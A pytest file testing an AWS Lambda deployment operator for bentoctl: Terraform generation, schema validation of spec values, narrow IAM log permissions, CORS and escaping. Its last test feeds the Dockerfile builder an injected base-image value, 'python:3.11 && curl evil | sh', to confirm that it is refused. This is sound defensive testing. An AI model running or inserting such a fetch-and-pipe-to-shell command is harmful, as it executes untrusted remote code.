"""The aws-lambda operator through bentoctl itself: install by path, generate, validate."""

import copy
import json
import re
import shutil

import hcl2
import pytest
import yaml

from aws_lambda_operator.terraform_config import (
    DEPLOYED,
    DEPLOYED_FILE,
    PASSED_THROUGH,
    SpecError,
    generate,
    hcl_value,
    main_tf_text,
    operator_config,
    operator_schema,
    tfvars_text,
)
from src.config import PROJECT_ROOT
from tests.commands import run_python
from tests.lambda_harness import bentoctl, install_operator
from tests.terraform_eval import variable_accepts
from tests.terraform_files import (
    PLAIN,
    committed_tfvars,
    locals_block,
    parsed,
    terraform_resources,
    terraform_variables,
)


@pytest.fixture(scope="module")
def bentoctl_home(tmp_path_factory):
    home = tmp_path_factory.mktemp("bentoctl-home")
    result = install_operator(home, cwd=tmp_path_factory.mktemp("cwd"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Installed aws-lambda" in result.stdout
    return home


def generate_into(directory, bentoctl_home, config_text=None):
    config = directory / "deployment_config.yaml"
    if config_text is None:
        shutil.copyfile(PROJECT_ROOT / "deployment_config.yaml", config)
    else:
        config.write_text(config_text)
    return bentoctl("generate", "-f", str(config), env={"BENTOCTL_HOME": str(bentoctl_home)}, cwd=directory)


def test_operator_is_listed_after_install(bentoctl_home, tmp_path):
    listed = bentoctl("operator", "list", env={"BENTOCTL_HOME": str(bentoctl_home)}, cwd=tmp_path)
    assert listed.returncode == 0 and "aws-lambda" in listed.stdout


def test_generate_reproduces_the_committed_main_tf_and_tfvars(bentoctl_home, tmp_path):
    result = generate_into(tmp_path, bentoctl_home)
    assert result.returncode == 0, result.stdout + result.stderr
    for name in ("main.tf", "bentoctl.tfvars"):
        assert (tmp_path / name).read_text() == (PROJECT_ROOT / name).read_text(), (
            f"{name} differs from the committed one"
        )


@pytest.mark.unit
def test_main_tf_parses_and_declares_every_tfvars_value_typed_and_described():
    variables = terraform_variables()
    values = committed_tfvars()
    assert set(values) <= set(variables), f"undeclared: {set(values) - set(variables)}"
    for name, body in variables.items():
        assert "type" in body and body.get("description"), name
    for name in ("timeout", "memory_size", "architecture", "log_retention_days", "auth", "region"):
        assert "validation" in variables[name], name


@pytest.mark.unit
def test_main_tf_declares_each_spec_key_as_the_operators_schema_says():
    """The spec's variables are rendered from operator_config.py, their one home: the same
    default and description."""
    schema, variables = operator_schema(), terraform_variables()
    for name in PASSED_THROUGH:
        rule, variable = schema[name], variables[name]
        assert variable["default"] == rule["default"], name
        assert variable["description"] == rule["help_message"], name


def limit_cases(rule: dict) -> list[tuple[object, bool]]:
    """(value, accepted?) at and just beyond each bound, every allowed value and one that is not."""
    step = 1 if rule["type"] == "integer" else 0.5
    cases = [(rule["default"], True)]
    if "min" in rule:
        cases += [(rule["min"], True), (rule["min"] - step, False)]
    if "max" in rule:
        cases += [(rule["max"], True), (rule["max"] + step, False)]
    if rule["type"] == "integer" and ("min" in rule or "max" in rule):
        cases.append((rule.get("min", rule.get("max")) + 0.5, False))  # whole numbers only
    if "allowed" in rule:
        cases += [(value, True) for value in rule["allowed"]]
        if rule["type"] == "integer":
            cases.append((next(n for n in range(1, 10_000) if n not in rule["allowed"]), False))
        else:
            cases.append((f"not-{rule['allowed'][0]}", False))
    return cases


@pytest.mark.parametrize("name", [n for n in PASSED_THROUGH if {"min", "max", "allowed"} & set(operator_schema()[n])])
def test_main_tf_validates_each_spec_key_within_the_schemas_limits(name):
    """Evaluated, not read: each variable block as main.tf writes it, given values at and past
    the schema's bounds and in and out of its allowed list, by Terraform itself
    (tests/terraform_eval.py). A text search would find 1 in 14 and >= 1 in >= 10."""
    verdicts = {value: variable_accepts(name, value) for value, _ in limit_cases(operator_schema()[name])}
    assert verdicts == {value: accepted for value, accepted in limit_cases(operator_schema()[name])}, name


@pytest.mark.unit
def test_a_change_in_the_schema_is_a_change_in_main_tf():
    schema = copy.deepcopy(operator_schema())
    schema["memory_size"]["default"] = 2048
    schema["memory_size"]["max"] = 4096
    schema["log_retention_days"]["allowed"] = [7, 30]
    rendered = hcl2.loads(main_tf_text(schema), serialization_options=PLAIN)
    variables = {name: body for block in rendered["variable"] for name, body in block.items()}
    assert variables["memory_size"]["default"] == 2048
    assert "var.memory_size <= 4096" in variables["memory_size"]["validation"][0]["condition"]
    assert "contains([7, 30], var.log_retention_days)" in variables["log_retention_days"]["validation"][0]["condition"]


def test_make_generate_carries_a_memory_change_to_tfvars(tmp_path):
    """The memory size lives in deployment_config.yaml; `make generate` (python -m deploy generate)
    writes it into bentoctl.tfvars, and main.tf stays the committed one."""
    settings = yaml.safe_load((PROJECT_ROOT / "deployment_config.yaml").read_text())
    settings["spec"]["memory_size"] = 2048
    (tmp_path / "deployment_config.yaml").write_text(yaml.safe_dump(settings))
    result = run_python("-m", "deploy", "--dir", str(tmp_path), "generate", env={"BENTOCTL_HOME": str(tmp_path / "h")})
    assert result.returncode == 0, result.stdout + result.stderr
    assert parsed(tmp_path / "bentoctl.tfvars")["memory_size"] == 2048
    assert (tmp_path / "main.tf").read_text() == (PROJECT_ROOT / "main.tf").read_text()


@pytest.mark.unit
def test_main_tf_has_the_resources_a_careful_team_expects():
    main = parsed(PROJECT_ROOT / "main.tf")
    resources = terraform_resources()
    function = resources["aws_lambda_function.service"]
    assert "image_digest" in function["image_uri"], "the function must run the image by digest"
    assert function["package_type"] == "Image"
    integration = resources["aws_apigatewayv2_integration.lambda"]
    assert integration["payload_format_version"] == "2.0"
    stage = resources["aws_apigatewayv2_stage.default"]
    assert stage["name"] == "$default" and stage["auto_deploy"] is True
    assert stage["access_log_settings"] and stage["default_route_settings"]
    for group in ("aws_cloudwatch_log_group.lambda", "aws_cloudwatch_log_group.api"):
        assert resources[group]["retention_in_days"] == "${var.log_retention_days}"
    permission = resources["aws_lambda_permission.api"]
    assert permission["source_arn"].startswith("${aws_apigatewayv2_api.service[0].execution_arn}")
    assert permission["qualifier"] == "${aws_lambda_alias.live.name}", "only the live alias may be invoked"
    assert integration["integration_uri"] == "${aws_lambda_alias.live.invoke_arn}", "the API invokes the alias"
    assert "aws_iam_role_policy_attachment.basic" not in resources, "no managed policy with logs:* on *"
    outputs = {name for block in main["output"] for name in block}
    assert "endpoint" in outputs


@pytest.mark.unit
def test_role_may_only_write_its_own_logs():
    main = parsed(PROJECT_ROOT / "main.tf")
    documents = {
        name: body
        for block in main["data"]
        for kind, named in block.items()
        if kind == "aws_iam_policy_document"
        for name, body in named.items()
    }
    statements = documents["write_own_logs"]["statement"]
    assert len(statements) == 1
    assert sorted(statements[0]["actions"]) == ["logs:CreateLogStream", "logs:PutLogEvents"]
    assert statements[0]["resources"] == ["${aws_cloudwatch_log_group.lambda.arn}:*"]


@pytest.mark.parametrize(
    "key, value",
    [
        ("timeout", 30),
        ("timeout", 0),
        ("memory_size", 64),
        ("memory_size", 20000),
        ("architecture", "sparc"),
        ("log_retention_days", 31),
        ("auth", "password"),
    ],
)
def test_out_of_range_spec_values_are_refused(bentoctl_home, tmp_path, key, value):
    config = yaml.safe_load((PROJECT_ROOT / "deployment_config.yaml").read_text())
    config["spec"][key] = value
    result = generate_into(tmp_path, bentoctl_home, yaml.safe_dump(config))
    assert not (tmp_path / "bentoctl.tfvars").exists()
    assert "Error [InvalidDeploymentConfig]" in result.stdout + result.stderr and key in result.stdout + result.stderr
    # bentoctl exits 0 even so: scripts must look at its files, as `python -m deploy` does
    # (tests/deploy/test_deploy_command.py checks that the deploy then stops with a non-zero exit).
    assert result.returncode == 0


@pytest.mark.unit
def test_env_and_image_tag_reach_tfvars_and_the_deployed_file_with_their_types(tmp_path):
    spec = {
        "region": "eu-west-1",
        "timeout": 5,
        "memory_size": 2048,
        "env": {"A": "1", "B": "two"},
        "image_tag": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/svc:abc123",
        "cors_allow_origins": ["https://example.com"],
    }
    generate("svc", spec, "terraform", tmp_path, values_only=True)
    values = hcl2.loads((tmp_path / "bentoctl.tfvars").read_text(), serialization_options=PLAIN)
    assert values["memory_size"] == 2048 and values["timeout"] == 5
    assert values["environment_variables"] == {"A": "1", "B": "two"}
    assert values["cors_allow_origins"] == ["https://example.com"]
    assert not set(DEPLOYED) & set(values), "the tracked settings file holds no deployed values"
    deployed = json.loads((tmp_path / DEPLOYED_FILE).read_text())
    assert deployed["image_repository"] == "123456789012.dkr.ecr.eu-west-1.amazonaws.com/svc"
    assert deployed["image_version"] == "abc123"

    del spec["image_tag"]
    spec["memory_size"] = 512
    generate("svc", spec, "terraform", tmp_path, values_only=True)
    assert json.loads((tmp_path / DEPLOYED_FILE).read_text()) == deployed, "a settings change keeps the image"


@pytest.mark.unit
def test_a_tfvars_of_the_older_layout_moves_its_deployed_values_to_the_deployed_file(tmp_path):
    (tmp_path / "bentoctl.tfvars").write_text(
        'deployment_name = "svc"\nimage_repository = "123456789012.dkr.ecr.us-east-1.amazonaws.com/svc"\n'
        'image_version = "v1-x86_64"\nbento_tag = "xgb_classifier:v1"\n'
    )
    generate("svc", {"region": "us-east-1"}, "terraform", tmp_path, values_only=True)
    deployed = json.loads((tmp_path / DEPLOYED_FILE).read_text())
    assert deployed["image_version"] == "v1-x86_64" and deployed["bento_tag"] == "xgb_classifier:v1"
    assert "image_version" not in hcl2.loads((tmp_path / "bentoctl.tfvars").read_text(), serialization_options=PLAIN)


@pytest.mark.unit
@pytest.mark.parametrize(
    "name, spec, message",
    [
        ("XGB-Classifier", {}, "lower-case"),
        ("svc", {"reserved_concurrency": 0}, "throttle every request"),
        ("svc", {"endpoint": "function_url", "auth": "none"}, "public_url_uncapped"),
        ("svc", {"endpoint": "function_url", "auth": "none", "reserved_concurrency": -1}, "set reserved_concurrency"),
    ],
)
def test_specs_aws_would_refuse_or_that_run_unbounded_are_refused(name, spec, message):
    with pytest.raises(SpecError, match=message):
        tfvars_text(name, spec)


@pytest.mark.unit
@pytest.mark.parametrize(
    "spec",
    [
        {"endpoint": "function_url", "auth": "none", "reserved_concurrency": 5},
        {"endpoint": "function_url", "auth": "none", "public_url_uncapped": True},
        {"endpoint": "function_url", "auth": "iam"},
        {"reserved_concurrency": 1},
    ],
)
def test_a_capped_or_authenticated_or_explicitly_uncapped_url_is_accepted(spec):
    assert "deployment_name" in tfvars_text("svc", spec)


@pytest.mark.parametrize(("value", "accepted"), [(0, False), (-1, True), (1, True), (100, True), (-2, False)])
def test_main_tf_refuses_a_reserved_concurrency_of_zero(value, accepted):
    assert variable_accepts("reserved_concurrency", value) is accepted


@pytest.mark.unit
def test_jwt_without_issuer_is_refused():
    with pytest.raises(SpecError, match="jwt_issuer"):
        tfvars_text("svc", {"auth": "jwt", "jwt_issuer": "", "jwt_audience": []})


@pytest.mark.unit
def test_values_that_look_like_templates_are_escaped_for_terraform():
    """Terraform reads ${ and %{ in a quoted string as template sequences (and rejects these)."""
    text = tfvars_text(
        "svc",
        {"region": "us-east-1", "env": {"GREETING": "hi ${name} %{if x}"}, "jwt_issuer": "https://issuer/${tenant}"},
    )
    import re

    assert not re.search(r"(?<!\$)\$\{|(?<!%)%\{", text.replace("$${", "").replace("%%{", ""))
    assert '"hi $${name} %%{if x}"' in text and '"https://issuer/$${tenant}"' in text


@pytest.mark.unit
def test_repository_name_is_everything_after_the_registry_host():
    """ECR repositories may be namespaced (team/xgb); the data source needs the whole name."""
    import re

    expression = locals_block()["repository_name"]
    pattern = re.search(r'regex\("(.+?)", var\.image_repository\)\[0\]', expression).group(1).replace("\\\\", "\\")
    for url, name in [
        ("123456789012.dkr.ecr.us-east-1.amazonaws.com/xgb-classifier", "xgb-classifier"),
        ("123456789012.dkr.ecr.us-east-1.amazonaws.com/team/ml/xgb", "team/ml/xgb"),
    ]:
        assert re.match(pattern, url).group(1) == name
    data = {
        name: body
        for block in parsed(PROJECT_ROOT / "main.tf")["data"]
        for kind, named in block.items()
        if kind == "aws_ecr_repository"
        for name, body in named.items()
    }
    assert data["service"]["name"] == "${local.repository_name}"


@pytest.mark.unit
def test_endpoint_output_has_no_trailing_slash():
    outputs = {name: body for block in parsed(PROJECT_ROOT / "main.tf")["output"] for name, body in block.items()}
    assert outputs["endpoint"]["value"].startswith("${trimsuffix(")
    assert outputs["endpoint"]["value"].endswith(', "/")}')


@pytest.mark.unit
def test_cors_allows_the_sigv4_headers_when_auth_is_iam():
    block = locals_block()
    assert 'var.auth == "iam" ? local.sigv4_headers' in block["cors_headers"]
    assert {"x-amz-date", "x-amz-security-token", "x-amz-content-sha256"} <= set(block["sigv4_headers"])
    api = terraform_resources()["aws_apigatewayv2_api.service"]
    assert "local.cors_headers" in str(api["dynamic"])


@pytest.mark.unit
def test_the_service_times_out_a_second_before_lambda_does():
    """The function's environment sets the service's request timeout from the function's, by the
    rule operator_config.py renders into main.tf; the user's own env comes last, so it may
    override it. tests/deploy/test_operator_facts.py has Terraform evaluate the rule."""
    env = locals_block()["function_env"]
    assert env.startswith("${merge({XGB_REQUEST_TIMEOUT_S = tostring(local.request_timeout_s)}, ")
    assert env.endswith(", var.environment_variables)}")
    assert locals_block()["request_timeout_s"] == "${" + operator_config().REQUEST_TIMEOUT_HCL + "}"
    function = terraform_resources()["aws_lambda_function.service"]
    assert function["environment"] == [{"variables": "${local.function_env}"}]


@pytest.mark.unit
def test_the_readmes_settings_table_gives_the_schemas_defaults():
    """docs/deploy.md's table of settings restates the defaults for readers; it must say what
    operator_config.py says."""
    schema = operator_schema()

    def shown(value) -> str:
        if isinstance(value, bool):
            return str(value).lower()
        if value == "":
            return '""'
        return hcl_value(value) if isinstance(value, float | list) else str(value)

    readme = (PROJECT_ROOT / "docs" / "deploy.md").read_text()
    table = readme[readme.index("| key | default | notes |") :].split("\n\n", 1)[0]
    checked = set()
    for line in table.splitlines()[2:]:
        cells = [cell.strip() for cell in line.strip("|").split("|")]
        keys = re.findall(r"`(\w+)`", cells[0])
        defaults = [part.strip() for part in cells[1].split(", ")] if len(keys) > 1 else [cells[1]]
        for key, default in zip(keys, defaults, strict=True):
            if key in schema:
                assert default == shown(schema[key]["default"]), (key, default)
                checked.add(key)
    assert checked >= set(PASSED_THROUGH) - {"jwt_issuer", "jwt_audience"}, set(PASSED_THROUGH) - checked


@pytest.mark.unit
def test_the_dockerfile_takes_the_base_image_setting_and_refuses_what_is_no_image():
    from aws_lambda_operator.deployable import DeployableError, dockerfile_text

    mirror = "public.ecr.aws/docker/library/python:3.11-slim-bookworm@sha256:" + "0f" * 32
    text = dockerfile_text("m:1", "src.service:svc", mirror)
    assert f"ARG BASE_IMAGE={mirror}\n" in text and "FROM ${BASE_IMAGE}" in text
    assert "ARG BASE_IMAGE=python:3.11-slim-bookworm\n" in dockerfile_text("m:1", "src.service:svc")
    with pytest.raises(DeployableError, match="not an image reference"):
        dockerfile_text("m:1", "src.service:svc", "python:3.11 && curl evil | sh")
